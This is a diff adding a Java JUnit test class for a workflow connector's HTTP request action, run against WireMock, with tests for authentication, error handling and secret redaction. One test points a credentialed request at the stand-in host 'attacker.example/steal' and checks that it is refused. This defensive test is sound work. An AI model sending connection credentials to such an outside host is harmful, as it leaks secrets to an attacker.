@@ -1,0 +1,164 @@
+package io.stroomlijn.connector.http;
+
+import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
+import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
+import static com.github.tomakehurst.wiremock.client.WireMock.equalToJson;
+import static com.github.tomakehurst.wiremock.client.WireMock.get;
+import static com.github.tomakehurst.wiremock.client.WireMock.getRequestedFor;
+import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
+import static com.github.tomakehurst.wiremock.client.WireMock.post;
+import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
+import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
+import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.wireMockConfig;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import com.github.tomakehurst.wiremock.junit5.WireMockExtension;
+import io.stroomlijn.connector.ActionFlows;
+import io.stroomlijn.support.StroomlijnTest;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import org.camunda.bpm.engine.HistoryService;
+import org.camunda.bpm.engine.RepositoryService;
+import org.camunda.bpm.engine.RuntimeService;
+import org.camunda.bpm.engine.history.HistoricVariableInstance;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.RegisterExtension;
+import org.springframework.beans.factory.annotation.Autowired;
+
+/** "Send an HTTP request" against a real HTTP server (WireMock). */
+@StroomlijnTest
+class HttpRequestActionTest {
+
+  @RegisterExtension
+  static WireMockExtension server =
+      WireMockExtension.newInstance().options(wireMockConfig().port(18089)).build();
+
+  @Autowired RepositoryService repository;
+  @Autowired RuntimeService runtime;
+  @Autowired HistoryService history;
+  final List<String> deployments = new ArrayList<>();
+
+  @AfterEach
+  void undeploy() {
+    deployments.forEach(id -> repository.deleteDeployment(id, true));
+  }
+
+  @Test
+  void getsJsonThroughAConnectionWithItsCredentialsAndKeepsTheAnswer() {
+    server.stubFor(
+        get("/crm/accounts/C0042")
+            .willReturn(okJson("{\"name\": \"Fabrikam\", \"creditLimit\": 25000}")));
+    deploy(
+        ActionFlows.of("HttpGetAccount", "httpRequestDelegate")
+            .input("connection", "crm")
+            .input("url", "accounts/${customerNo}")
+            .input("resultVariable", "account"));
+
+    String run =
+        runtime.startProcessInstanceByKey("HttpGetAccount", Map.of("customerNo", "C0042")).getId();
+
+    server.verify(
+        getRequestedFor(urlEqualTo("/crm/accounts/C0042"))
+            .withHeader("Authorization", equalTo("Bearer secret-crm-token")));
+    Map<?, ?> account = (Map<?, ?>) variable(run, "account");
+    assertThat(account.get("status")).isEqualTo(200);
+    assertThat(((Map<?, ?>) account.get("body")).get("creditLimit")).isEqualTo(25000);
+    assertThat(history.createHistoricVariableInstanceQuery().processInstanceId(run).list())
+        .extracting(v -> String.valueOf(v.getValue()))
+        .noneMatch(value -> value.contains("secret-crm-token"));
+  }
+
+  @Test
+  void postsAMapAsJsonWithTheGivenHeaders() {
+    server.stubFor(post("/orders").willReturn(aResponse().withStatus(201).withBody("created")));
+    deploy(
+        ActionFlows.of("HttpPostOrder", "httpRequestDelegate")
+            .input("method", "POST")
+            .input("url", "http://localhost:18089/orders")
+            .input("headers", "{\"X-Source\": \"stroomlijn\"}")
+            .input("body", "{\"customer\": \"${customerNo}\", \"lines\": 3}")
+            .input("resultVariable", "answer"));
+
+    String run =
+        runtime.startProcessInstanceByKey("HttpPostOrder", Map.of("customerNo", "C0042")).getId();
+
+    server.verify(
+        postRequestedFor(urlEqualTo("/orders"))
+            .withHeader("X-Source", equalTo("stroomlijn"))
+            .withHeader("Content-Type", equalTo("application/json"))
+            .withRequestBody(equalToJson("{\"customer\": \"C0042\", \"lines\": 3}")));
+    assertThat(((Map<?, ?>) variable(run, "answer")).get("body")).isEqualTo("created");
+  }
+
+  @Test
+  void a4xxAnswerIsTheBpmnErrorHttp4xxWithTheAnswerKept() {
+    server.stubFor(
+        get("/crm/accounts/NOPE")
+            .willReturn(
+                aResponse()
+                    .withStatus(404)
+                    .withBody("{\"error\": \"no such account\"}")
+                    .withHeader("Content-Type", "application/json")));
+    deploy(
+        ActionFlows.of("HttpNotFound", "httpRequestDelegate")
+            .input("connection", "crm")
+            .input("url", "/accounts/NOPE")
+            .input("resultVariable", "account")
+            .catching("HTTP_4XX"));
+
+    String run = runtime.startProcessInstanceByKey("HttpNotFound").getId();
+
+    assertThat(
+            history
+                .createHistoricActivityInstanceQuery()
+                .processInstanceId(run)
+                .activityId(ActionFlows.CAUGHT)
+                .count())
+        .isEqualTo(1);
+    Map<?, ?> account = (Map<?, ?>) variable(run, "account");
+    assertThat(account.get("status")).isEqualTo(404);
+    assertThat(((Map<?, ?>) account.get("body")).get("error")).isEqualTo("no such account");
+  }
+
+  @Test
+  void a5xxAnswerIsATechnicalFailureThatNamesTheRequestAndConnection() {
+    server.stubFor(
+        get("/crm/health").willReturn(aResponse().withStatus(503).withBody("maintenance")));
+    deploy(
+        ActionFlows.of("HttpDown", "httpRequestDelegate")
+            .input("connection", "crm")
+            .input("url", "health?apiKey=abc")
+            .catching("HTTP_4XX"));
+
+    assertThatThrownBy(() -> runtime.startProcessInstanceByKey("HttpDown"))
+        .hasMessageContaining(
+            "GET http://localhost:18089/crm/health (connection 'crm') answered 503: maintenance")
+        .message()
+        .doesNotContain("apiKey=abc");
+  }
+
+  @Test
+  void aConnectionsCredentialsGoNowhereButItsBaseUrl() {
+    deploy(
+        ActionFlows.of("HttpElsewhere", "httpRequestDelegate")
+            .input("connection", "crm")
+            .input("url", "https://attacker.example/steal"));
+
+    assertThatThrownBy(() -> runtime.startProcessInstanceByKey("HttpElsewhere"))
+        .hasMessageContaining(
+            "outside connection 'crm', whose base URL is http://localhost:18089/crm");
+  }
+
+  private Object variable(String run, String name) {
+    HistoricVariableInstance variable =
+        history
+            .createHistoricVariableInstanceQuery()
+            .processInstanceId(run)
+            .variableName(name)
+            .singleResult();
+    return variable == null ? null : variable.getValue();
+  }
+}
